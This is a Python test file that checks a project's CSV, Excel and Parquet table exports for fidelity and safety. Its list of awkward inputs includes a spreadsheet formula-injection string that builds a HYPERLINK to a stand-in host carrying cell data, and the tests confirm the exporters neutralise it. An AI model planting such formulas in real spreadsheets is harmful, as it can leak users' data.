"""The tables as independent readers see them: csv, openpyxl and pyarrow agree with each other and with the records."""

from __future__ import annotations

import csv
import hashlib
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from rashomon.errors import RunError
from rashomon.records import Claim, Quantity
from rashomon.report.exports import tables_csv, tables_parquet, tables_xlsx
from rashomon.report.exports.base import Lost, Material
from rashomon.report.exports.cells import as_text, unmarked
from rashomon.report.exports.tables import Index, limits, tables
from report.exports.filled import MADE, filled_material

EVIL = '=HYPERLINK("https://example.org?"&A1;"look")'
HARD = [
    "zz",
    EVIL,
    "-5 °C",
    "＠SUM(1)",
    'a "quoted", b',
    "two\nlines",
    "العربية",
    "\U0001f600 é",
    "_x0041_",
    "\x01\x0b",
    "#N/A",
    "1e5",
    "0012",
    "'=1",
]


def of_texts(texts: list[str], **changes: Any) -> Material:
    """Return a case with one claim a text."""
    material = filled_material()
    reading = material.dossier.readings[0]
    claim: Claim = reading.claims[0]
    claims = tuple(replace(claim, id=f"c{n}", text=text, **changes) for n, text in enumerate(texts))
    return replace(material, dossier=replace(material.dossier, readings=(replace(reading, claims=claims),)))


def rows_of_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def lost_by(lost: Iterator[Lost]) -> dict[tuple[str, str], int]:
    return {(one.noun, one.field): one.count for one in lost if one.count}


@pytest.fixture
def material() -> Material:
    return of_texts(HARD)


def test_csv_is_what_rfc_4180_says_with_a_mark_that_excel_needs(material: Material, tmp_path: Path) -> None:
    list(tables_csv.write(material, tmp_path))
    data = (tmp_path / "claims.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,")
    assert data.endswith(b"\r\n")
    assert [row["text"] for row in rows_of_csv(tmp_path / "claims.csv")][5] == "two\nlines"


def test_csv_runs_nothing_and_loses_no_letter(material: Material, tmp_path: Path) -> None:
    lost = lost_by(tables_csv.write(material, tmp_path))
    rows = rows_of_csv(tmp_path / "claims.csv")
    assert rows[1]["text"] == f"'{EVIL}"
    assert [unmarked(row["text"]) for row in rows] == HARD
    # In claims.csv alone: relations tell only of claims that are there.
    assert lost["cell", "text"] == 4


def test_every_cell_of_csv_is_the_value_of_the_record(material: Material, tmp_path: Path) -> None:
    list(tables_csv.write(material, tmp_path))
    index = Index(material)
    for table in tables():
        names = [column.name for column in table.columns]
        assert len(set(names)) == len(names)
        found = [[unmarked(row[name]) for name in names] for row in rows_of_csv(tmp_path / f"{table.name}.csv")]
        kinds = [column.kind for column in table.columns]
        assert found == [[as_text(kind, v) for kind, v in zip(kinds, row, strict=True)] for row in table.rows(index)]


def test_the_dictionary_tells_of_every_column(material: Material, tmp_path: Path) -> None:
    list(tables_csv.write(material, tmp_path))
    told = {(row["table"], row["column"]): row for row in rows_of_csv(tmp_path / "columns.csv")}
    assert set(told) == {(table.name, column.name) for table in tables() for column in table.columns}
    assert all(row["meaning"].endswith(".") and row["kind"] for row in told.values())
    assert {path.stem for path in tmp_path.glob("*.csv")} == {table.name for table in tables()} | {"columns", "about"}


def test_every_row_leads_back(material: Material, tmp_path: Path) -> None:
    list(tables_csv.write(material, tmp_path))
    for table in tables():
        for row in rows_of_csv(tmp_path / f"{table.name}.csv"):
            if table.name != "conduits":
                assert row["address"].startswith(f"urn:rashomon:{material.case}:")


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    quantity = Quantity("5 below zero", filled_span(), -5.0, "exact", -5.0, -5.0, unit="degree")
    material = of_texts(["It was 5 below zero"], quantities=(quantity,))
    list(tables_csv.write(material, tmp_path))
    (row,) = rows_of_csv(tmp_path / "quantities.csv")
    assert (row["low"], row["value"], row["value_to"]) == ("-5", "-5", "")


def filled_span() -> Any:
    return filled_material().dossier.readings[0].claims[0].content[0]


@pytest.mark.parametrize(
    ("low", "high", "said"),
    [
        (None, None, None),
        (24, 60, "24 to 60"),
        (100, None, "100 or more"),
        (None, 5, "5 or fewer"),
        (3500, 3500, "3,500"),
    ],
)
def test_bounds_in_words(low: float | None, high: float | None, said: str | None) -> None:
    assert limits(low, high) == said


def test_a_workbook_holds_the_same_as_csv_and_no_formula(material: Material, tmp_path: Path) -> None:
    list(tables_csv.write(material, tmp_path))
    list(tables_xlsx.write(material, tmp_path))
    book = openpyxl.load_workbook(tmp_path / "case.xlsx")
    assert book.sheetnames == ["about", *(table.name for table in tables()), "columns"]
    for table in tables():
        sheet = book[table.name]
        plain = rows_of_csv(tmp_path / f"{table.name}.csv")
        head = [cell.value for cell in sheet[1]]
        assert head == [column.name for column in table.columns]
        assert sheet.max_row == len(plain) + 1
        assert (sheet.freeze_panes, sheet.auto_filter.ref.startswith("A1:")) == ("A2", True)
        for cells, row in zip(sheet.iter_rows(min_row=2), plain, strict=True):
            for cell, (_, text) in zip(cells, row.items(), strict=True):
                assert cell.data_type in ("s", "inlineStr", "n", "d"), cell.value
                assert cell.hyperlink is None
                assert same(cell.value, unmarked(text))


def same(value: Any, text: str) -> bool:
    """Tell whether a cell of a workbook holds what a cell of a CSV file says."""
    if value is None:
        return text == ""
    if isinstance(value, datetime):
        return value.date() == date.fromisoformat(text)
    if isinstance(value, int | float):
        return float(text) == value
    return str(value) in (text, text.replace("_x0041_", "_x005F_x0041_").replace("\x01\x0b", "_x0001__x000B_"))


def test_a_text_that_looks_like_a_formula_stays_text_when_it_is_edited(material: Material, tmp_path: Path) -> None:
    list(tables_xlsx.write(material, tmp_path))
    sheet = openpyxl.load_workbook(tmp_path / "case.xlsx")["claims"]
    column = [cell.value for cell in sheet[1]].index("text")
    cells = {row[column].value: row[column] for row in sheet.iter_rows(min_row=2)}
    assert cells[EVIL].style and cells[EVIL].quotePrefix and cells[EVIL].number_format == "@"
    assert not cells["zz"].quotePrefix
    with zipfile.ZipFile(tmp_path / "case.xlsx") as archive:
        inside = b"".join(archive.read(name) for name in archive.namelist() if "sheet" in name)
    assert b"<f>" not in inside
    assert b"hyperlink" not in inside


def test_a_workbook_tells_nothing_of_who_made_it_and_when(material: Material, tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        list(tables_xlsx.write(material, tmp_path / name))
    assert (tmp_path / "one" / "case.xlsx").read_bytes() == (tmp_path / "two" / "case.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "one" / "case.xlsx") as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert MADE in core
    assert "creator" not in core.lower()
    assert "openpyxl" not in core


def test_what_is_too_long_for_a_cell_is_cut_and_told_of(tmp_path: Path) -> None:
    lost = lost_by(tables_xlsx.write(of_texts(["x" * 40_000, "\U0001f600" * 20_000, "y" * 32_767]), tmp_path))
    sheet = openpyxl.load_workbook(tmp_path / "case.xlsx")["claims"]
    column = [cell.value for cell in sheet[1]].index("text")
    texts = [row[column].value for row in sheet.iter_rows(min_row=2)]
    assert [len(text.encode("utf-16-le")) // 2 for text in texts] == [32_767, 32_767, 32_767]
    assert [text[-1] for text in texts] == ["…", "…", "y"]
    assert lost["cell", "text"] == 2


def test_more_rows_than_a_sheet_has_are_told_of(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables_xlsx, "MOST_ROWS", 3)
    lost = lost_by(tables_xlsx.write(of_texts(["a", "b", "c"]), tmp_path))
    assert openpyxl.load_workbook(tmp_path / "case.xlsx")["claims"].max_row == 3
    assert lost["row", "*"] > 0


def test_days_before_excel_are_text(tmp_path: Path) -> None:
    material = filled_material()
    reading = material.dossier.readings[0]
    old = replace(reading, document=replace(reading.document, published=date(1899, 12, 31)))
    list(tables_xlsx.write(replace(material, dossier=replace(material.dossier, readings=(old,))), tmp_path))
    sheet = openpyxl.load_workbook(tmp_path / "case.xlsx")["documents"]
    column = [cell.value for cell in sheet[1]].index("published")
    assert sheet.cell(2, column + 1).value == "1899-12-31"


def test_parquet_holds_the_values_with_their_meaning(material: Material, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    list(tables_parquet.write(material, tmp_path))
    index = Index(material)
    for table in tables():
        found = parquet.read_table(tmp_path / f"{table.name}.parquet")
        wanted = [dict(zip(found.column_names, map(plain, row), strict=True)) for row in table.rows(index)]
        assert found.to_pylist() == wanted
        for column, field in zip(table.columns, found.schema, strict=True):
            assert field.metadata[b"description"].decode() == column.meaning
        assert found.schema.metadata[b"description"].decode() == table.meaning


def plain(value: Any) -> Any:
    if isinstance(value, tuple):
        return [{"start": v.start, "end": v.end} if hasattr(v, "start") else v for v in value]
    return value


def test_parquet_is_the_same_for_the_same_case(material: Material, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    hashes = []
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        list(tables_parquet.write(material, tmp_path / name))
        hashes.append([hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted((tmp_path / name).iterdir())])
    assert hashes[0] == hashes[1]


def test_without_pyarrow_it_says_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(RunError, match=r"pip install 'rashomon\[parquet\]'"):
        list(tables_parquet.write(filled_material(), tmp_path))


def test_half_a_character_stops_no_table(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    material = of_texts(["torn \ud800 here"])
    lost = lost_by(tables_csv.write(material, tmp_path))
    list(tables_xlsx.write(material, tmp_path))
    list(tables_parquet.write(material, tmp_path))
    assert rows_of_csv(tmp_path / "claims.csv")[0]["text"] == "torn \ufffd here"
    assert lost["cell", "half a character"] == 1


def test_a_rejected_claim_says_so_and_silence_is_counted(tmp_path: Path) -> None:
    material = filled_material()
    claim = material.dossier.readings[0].claims[0]
    dossier = replace(material.dossier, rejected=(replace(claim, id="out"),))
    list(tables_csv.write(replace(material, dossier=dossier), tmp_path))
    standing = {row["id"]: row["standing"] for row in rows_of_csv(tmp_path / "claims.csv")}
    assert standing == {claim.id: "compared", "out": "rejected"}
    (question,) = rows_of_csv(tmp_path / "questions.csv")
    assert (question["sources_answering"], question["sources_silent"]) == ("1", "0")
